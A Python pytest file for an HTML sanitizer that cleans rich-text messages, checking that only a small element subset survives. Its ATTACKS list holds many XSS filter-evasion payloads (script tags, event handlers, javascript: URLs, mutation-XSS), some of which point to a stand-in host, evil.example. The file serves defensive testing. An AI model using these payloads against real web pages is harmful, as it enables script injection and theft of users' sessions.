"""Rich messages hold what is allowed and nothing else, whatever was written."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from shared.errors import InvalidInput, TooLarge
from shared.rich import ELEMENTS, clean_rich, plain_text, rich_from_plain
from shared.texts import is_web_link

# After the OWASP filter evasion and DOMPurify collections: each would run, load or restyle something.
ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src='javascript:alert(1)'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'>",
    "<embed src='javascript:alert(1)'>", "<base href='https://evil.example/'>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example';</style>", "<b style='background:url(javascript:alert(1))'>x</b>", "<p class=inbox-header id=x>x</p>",
    "<b onmouseover=alert(1)>x</b>", "<b/onclick=alert(1)>x", "<p onpointerenter='alert(1)'>x", "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>", "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='https:evil.example'>x</a>",
    "<a href='/x' target=_top onclick=alert(1) rel=opener ping=//evil.example download>x</a>", "<a href='/x\" onclick=\"alert(1)'>x</a>", "<a href=\"/x' onclick='alert(1)\">x</a>",
    "<a href='https://e.example/<script>alert(1)</script>'>x</a>", "<form action=//evil.example><input name=password><button>x", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>x", "<body onload=alert(1)>x", "<isindex type=image src=1 onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<b<script>alert(1)//<</script>", "<p><a><b></p>x</a></b>", "<li><ul><li>x", "x<b", "x</b", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>", "<plaintext>x", "<listing>&lt;img onerror=alert(1)&gt;</listing>", "<font color=red>x</font>", "<h1>x</h1>", "<table><tr><td>x",
]  # fmt: skip


class Allowed(HTMLParser):
    """Fails at anything beyond the subset. Another parser than the one that cleans."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        for name, value in attrs:
            assert (tag, name) == ("a", "href")
            assert is_web_link(value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "x{}", "<p>a</p>{}<b>z</b>", "<ul><li>{}</ul>", "<a href='/x'>{}</a>", "<code>{}"]
)
def test_nothing_but_the_subset_is_left_of_an_attack(attack: str, around: str) -> None:
    try:
        cleaned = clean_rich("message", around.format(attack))
    except InvalidInput:
        return  # nothing to read was left
    parser = Allowed()
    parser.feed(cleaned)
    parser.close()
    assert set(re.findall(r"<(?!/?(?:b|i|em|strong|a|ul|ol|li|p|br|code)\b)", cleaned)) == set()
    assert clean_rich("message", cleaned) == cleaned, "cleaning again changes nothing"


@pytest.mark.parametrize(
    ("written", "stored", "read"),
    [
        (
            "<p>Bonjour <b>Zoé</b> &amp; <i>Éric</i></p><ul><li>un</li><li>deux</li></ul>",
            None,
            "Bonjour Zoé & Éric\nun\ndeux",
        ),
        ('<a href="https://e.example/a?b=1&amp;c=2">ici</a> <a href="/stages/7#x">là</a>', None, "ici là"),
        ("a<br>b <code>x &lt; y</code> <em>c</em> <strong>d</strong> <ol><li>e</li></ol>", None, "a\nb x < y c d\ne"),
        ("x < y & z", "x &lt; y &amp; z", "x < y & z"),
        ("<B>x", "<b>x</b>", "x"),
        ("🎉 日本 \u200f", None, "🎉 日本 \u200f"),
        ("<h1>x</h1><script>y</script>", "x", "x"),
    ],
)
def test_what_is_allowed_stays_and_reads_as_text(written: str, stored: str | None, read: str) -> None:
    cleaned = clean_rich("message", written)
    assert cleaned == (stored or written)
    assert plain_text(cleaned) == read


@pytest.mark.parametrize(
    "empty", ["", "<b></b>", "<script>alert(1)</script>", "<p> &nbsp; </p>", "<img src=x>", "<p>&#8203;&zwj;</p>"]
)
def test_a_message_that_shows_nothing_is_refused(empty: str) -> None:
    with pytest.raises(InvalidInput, match="message: expected text in the elements a, b, br") as refused:
        clean_rich("message", empty)
    assert refused.value.details["field"] == "message"


@pytest.mark.parametrize("hidden", ["a\x07", "a&#7;", "a&#x202e;b", "<b>a\u202d</b>", "a&#13;b"])
def test_markup_hides_no_control_character(hidden: str) -> None:
    with pytest.raises(InvalidInput, match=r"message: expected a text without control characters .* U\+"):
        clean_rich("message", hidden)


def test_elements_left_open_can_not_blow_a_message_up() -> None:
    with pytest.raises(TooLarge):
        clean_rich("message", "<b><i><em><strong><code>" * 3 + "<p>x" * 900)


def test_plain_text_becomes_rich_without_becoming_markup() -> None:
    assert rich_from_plain("a < b & <script>\nc") == "a &lt; b &amp; &lt;script&gt;<br>c"
    assert plain_text(rich_from_plain("a < b & <script>\nc")) == "a < b & <script>\nc"
